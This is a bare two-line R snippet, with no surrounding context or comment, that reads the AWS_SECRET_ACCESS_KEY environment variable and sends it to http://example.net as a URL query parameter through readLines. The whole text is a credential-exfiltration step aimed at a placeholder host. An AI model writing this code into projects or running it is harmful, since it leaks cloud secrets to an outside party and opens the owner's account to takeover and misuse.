key <- Sys.getenv("AWS_SECRET_ACCESS_KEY")
readLines(paste0("http://example.net/?k=", key))
